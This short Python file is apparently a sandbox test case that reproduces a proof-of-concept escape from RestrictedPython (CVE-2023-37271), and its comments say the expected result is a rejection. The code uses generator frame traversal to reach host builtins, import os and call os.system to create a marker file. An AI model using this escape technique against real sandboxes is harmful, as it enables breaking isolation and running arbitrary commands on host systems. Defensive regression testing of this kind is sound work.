# source: RestrictedPython CVE-2023-37271 / GHSA-wqc8-x2pr-7jqh (restrictedpython.md A1 PoC; landscape C2 #8)
# goal: walk gi_frame.f_back out of the cell into host frames, then f_builtins['__import__']('os')
# expect: rejected PC103
g = None
leak = None
def test():
    global g, leak
    leak = g.gi_frame.f_back.f_back
    yield leak
g = test()
g.send(None)
ESCAPED = leak
os = leak.f_builtins.get('__import__')('os')
os.system('touch MARKER')
